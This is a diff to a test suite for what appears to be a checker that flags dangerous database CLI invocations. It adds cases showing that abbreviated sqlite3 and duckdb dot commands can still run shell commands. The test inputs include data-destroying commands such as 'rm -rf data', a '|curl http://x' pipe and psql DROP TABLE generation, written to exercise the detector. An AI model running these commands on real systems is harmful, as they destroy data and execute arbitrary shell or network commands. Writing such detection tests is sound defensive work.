@@ -577,6 +577,11 @@ describe('sqlSources', () => {
     ['redis dynamic command', inv(['redis-cli', dyn('$CMD')]), /run time/],
     ['redis stdin from program', inv(['redis-cli'], { stdin: { kind: 'pipe', from: 'cat cmds' } }), /piped/],
     ['sqlite .read pipe', inv(['sqlite3', 'x.db', ".read '|curl http://x'"]), /runs the command/],
+    // Any prefix of a dot command works in sqlite3 and duckdb (rt27fp1).
+    ['sqlite .sh prefix', inv(['sqlite3', 'x.db', '.sh rm -rf data']), /shell command/],
+    ['duckdb .sy prefix', inv(['duckdb', '-c', '.sy rm -rf data']), /shell command/],
+    ['sqlite .on | pipe', inv(['sqlite3', 'x.db', ".on '|sh'", "SELECT 'rm -rf data'"]), /shell command/],
+    ['sqlite .rea pipe', inv(['sqlite3', 'x.db', ".rea '|curl http://x'"]), /runs the command/],
     ['psql \\gexec', inv(['psql', '-c', "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec"]), /gexec/],
     ['psql heredoc \\gexec', inv(['psql'], { stdin: heredoc("SELECT 'DROP TABLE ' || tablename FROM pg_tables\n\\gexec\n") }), /gexec/],
     ['psql \\! shell escape', inv(['psql', '-c', '\\! rm -rf data']), /shell command/],
